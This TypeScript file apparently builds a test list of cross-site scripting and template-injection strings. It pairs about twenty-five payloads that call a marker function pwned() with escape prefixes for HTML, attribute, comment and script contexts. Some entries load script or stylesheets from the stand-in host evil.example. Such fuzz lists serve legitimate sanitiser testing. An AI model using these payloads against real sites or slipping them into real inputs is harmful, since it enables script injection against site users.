/** Markup and addresses that run `pwned()` wherever a text is taken for more than a text. At most as long as a name. */
const RUNS = [
	'<img src=x onerror=pwned()>',
	'<svg onload=pwned()>',
	'<svg><script>pwned()</script></svg>',
	'<script>pwned()</script>',
	'<script src=//evil.example/x.js></script>',
	'<iframe srcdoc="<script>parent.pwned()</script>">',
	'<iframe src=javascript:parent.pwned()>',
	'<object data=javascript:pwned()>',
	'<embed src=javascript:pwned()>',
	'<details open ontoggle=pwned()>',
	'<input autofocus onfocus=pwned()>',
	'<video><source onerror=pwned()></video>',
	'<body onpageshow=pwned()>',
	'<a href=javascript:pwned()>tap</a>',
	'<form action=javascript:pwned()><button>tap</button></form>',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=javascript:pwned()">',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<style>@import "//evil.example/x.css"</style>',
	'<math><mtext><mglyph><style></math><img src=x onerror=pwned()>',
	'<noscript><p title="</noscript><img src=x onerror=pwned()>">',
	'<template shadowrootmode=open><img src=x onerror=pwned()></template>',
	'javascript:pwned()//',
	'{{constructor.constructor("pwned()")()}}',
	'${pwned()}{pwned()}{@html pwned()}'
];

/** What stands before it, to get out of where a text is put. */
const BREAKS = [
	'',
	'"',
	"'",
	'`',
	'">',
	"'>",
	'-->',
	'<!-->',
	']]>',
	'</title>',
	'</textarea>',
	'</option></select>',
	'</script>',
	'</style>',
	'\\u0022\\u003e',
	'&quot;&gt;',
	'\u202e',
	'\u2028',
	'\n\n',
	'${'
];

export const PAYLOADS: readonly string[] = BREAKS.flatMap((before) => RUNS.map((run) => before + run));
